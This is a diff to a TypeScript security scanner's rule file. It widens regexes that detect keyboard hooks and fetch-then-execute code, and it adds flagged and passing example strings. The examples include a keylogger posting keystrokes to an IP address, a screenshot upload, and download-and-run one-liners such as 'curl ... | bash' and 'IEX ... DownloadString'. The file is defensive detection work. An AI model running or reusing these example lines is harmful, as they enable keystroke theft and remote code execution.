@@ -355,7 +355,7 @@ const TLS_OFF: readonly RegExp[] = [
   /danger_accept_invalid_certs\s{0,4}\(\s{0,4}true|setdefaulthostnameverifier|sslverify["']?\s{0,4}(?:=>|=|:)\s{0,4}false/i,
 ];
 
-const KEYHOOK = /\bpynput\b|\bkeyboard\.(?:on_press|on_release|hook|read_key|record)\b|getasynckeystate|setwindowshookex[a-z]{0,2}\s{0,4}\([^)]{0,10}wh_keyboard|\bwh_keyboard_ll\b|\biohook\b|cgeventtapcreate|\/dev\/input\/event|xinput\s{1,4}test/i;
+const KEYHOOK = /\bpynput\b|\bkeyboard\.(?:on_press|on_release|hook|read_key|record)\b|getasynckeystate|setwindowshookex[a-z]{0,2}\s{0,4}\([^)]{0,10}wh_keyboard|setwindowshookex[a-z]{0,2}\s{0,4}\(\s{0,4}13\s{0,4},|\bwh_keyboard_ll\b|\biohook\b|cgeventtapcreate|\/dev\/input\/event|xinput\s{1,4}test/i;
 const DOM_KEYS = /addeventlistener\s{0,4}\(\s{0,4}["']key(?:down|press|up)["']|\.onkey(?:down|press|up)\s{0,4}=/i;
 const SCREEN = /imagegrab\.grab|pyautogui\.screenshot|\bmss\s{0,4}\(\s{0,4}\)|copyfromscreen|getdisplaymedia|\bscreencapture\b|screenshot-desktop|desktopcapturer/i;
 const NETWORK = /requests\.(?:post|put)|urllib\.request|urlopen|smtplib|ftplib|\bfetch\s{0,4}\(|xmlhttprequest|sendbeacon|axios\.(?:post|put)|https?\.(?:request|get)\s{0,4}\(|\.send\s{0,4}\(|socket\.(?:send|connect)|webhook|api\.telegram\.org|new\s{1,4}image\s{0,4}\(\s{0,4}\)\.src|\bcurl\b|\bwget\b|net\.webclient|uploadfile|s3\.upload|put_object/i;
@@ -395,7 +395,7 @@ const REMOTE_EXECS: readonly Probe[] = [
 ];
 
 /** A variable holding a network download (`r = requests.get(u).text`, `$s = (New-Object Net.WebClient).DownloadString(u)`). */
-const FETCH_ASSIGN = /^\s{0,4}(?:await\s{1,4})?(?:requests\.get|requests\.post|urllib\.request\.urlopen|urlopen|httpx\.get|fetch|axios\.get|got|https?\.get|invoke-webrequest|iwr|invoke-restmethod|irm|\(\s{0,2}new-object\s{1,4}(?:system\.)?net\.webclient\s{0,2}\)\.downloadstring|\$?[a-z_]{1,20}\.downloadstring|urllib2\.urlopen|open-uri|uri\.open|net::http\.get|file_get_contents\s{0,4}\(\s{0,4}["']https?:)/i;
+const FETCH_ASSIGN = /^\s{0,4}(?:await\s{1,4})?(?:requests\.get|requests\.post|urllib\.request\.urlopen|urlopen|httpx\.get|fetch|axios\.get|got|https?\.get|invoke-webrequest|iwr|invoke-restmethod|irm|\(\s{0,2}new-object\s{1,4}(?:system\.)?net\.webclient\s{0,2}\)\.downloadstring|\$?[a-z_]{1,20}\.downloadstring|urllib2\.urlopen|open-uri|uri\.open|net::http\.get|curl_exec|file_get_contents\s{0,4}\(\s{0,4}["']https?:)/i;
 const isFetch = (s: string): boolean => FETCH_ASSIGN.test(s);
 const EXEC_NAMED = /(?<![.\w$])(?:exec|eval)\s{0,4}\(|\bnew\s{1,4}function\s{0,4}\(|\b(?:iex|invoke-expression)\b\s{0,4}\(?/gi;
 const AUTORUN_WRITE: Probe = {
@@ -842,7 +842,7 @@ const rules: ThreatRule<CodeContext>[] = [
       return null;
     },
     examples: {
-      flag: ['from pynput import keyboard\ndef on_press(k):\n    requests.post("http://203.0.113.4/k", data=str(k))', 'img = ImageGrab.grab()\nimg.save("s.png")\nrequests.post(URL, files={"f": open("s.png","rb")})'],
+      flag: ['import ctypes; ctypes.windll.user32.SetWindowsHookExA(13, hook, None, 0)', 'from pynput import keyboard\ndef on_press(k):\n    requests.post("http://203.0.113.4/k", data=str(k))', 'img = ImageGrab.grab()\nimg.save("s.png")\nrequests.post(URL, files={"f": open("s.png","rb")})'],
       pass: ['input.addEventListener("keydown", (e) => { if (e.key === "Enter") submit(); });', 'await page.screenshot({ path: "home.png" });'],
     },
   },
@@ -934,7 +934,7 @@ const rules: ThreatRule<CodeContext>[] = [
       return null;
     },
     examples: {
-      flag: ['src = requests.get(STAGE2).text\nexec(src)', '$p = (New-Object Net.WebClient).DownloadString($u)\nInvoke-Expression $p', 'exec(requests.get("http://203.0.113.9/p.py").text)', 'eval(await (await fetch(url)).text())', 'os.system("curl -s http://198.51.100.7/x.sh | bash")', 'IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.3/a.ps1")'],
+      flag: ['src = requests.get(STAGE2).text\nexec(src)', '$r = curl_exec($ch); eval($r);', '$p = (New-Object Net.WebClient).DownloadString($u)\nInvoke-Expression $p', 'exec(requests.get("http://203.0.113.9/p.py").text)', 'eval(await (await fetch(url)).text())', 'os.system("curl -s http://198.51.100.7/x.sh | bash")', 'IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.3/a.ps1")'],
       pass: ['body = requests.get(url).text\nprint(len(body))\nexec_time = time.time()', 'const res = await fetch(url); const data = await res.json();', 'r = requests.get(url); r.raise_for_status()', 'subprocess.run(["curl", "-o", "out.tar.gz", url])'],
     },
   },
